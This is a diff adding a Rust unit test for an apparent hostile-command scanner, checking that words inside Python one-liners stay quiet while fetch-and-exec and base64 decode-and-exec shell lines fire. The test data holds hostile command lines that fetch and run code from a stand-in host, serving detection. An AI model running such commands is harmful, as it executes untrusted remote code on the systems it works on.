@@ -501,3 +501,32 @@ fn hosts_are_urls_in_strings_not_prose() {
         Some("203.0.113.9")
     );
 }
+
+#[test]
+fn inline_code_for_an_interpreter_is_not_read_as_shell() {
+    let s = scanner();
+    // The words are inside Python code given to python3 -c: only the Python
+    // scan of that code counts, and it is a print.
+    quiet(
+        &s,
+        Language::Bash,
+        "python3 -c \"print('curl http://x.example | sh; base64 -d')\"",
+    );
+    quiet(
+        &s,
+        Language::Bash,
+        "python3 -c 'import base64; print(base64.b64encode(b\"x\"))'",
+    );
+    fires(
+        &s,
+        Language::Bash,
+        "fetch-and-exec",
+        "python3 -c \"$(curl -s http://x.example/a.py)\"",
+    );
+    fires(
+        &s,
+        Language::Bash,
+        "decode-and-exec",
+        "sh -c \"$(echo Y3VybA== | base64 -d)\"",
+    );
+}
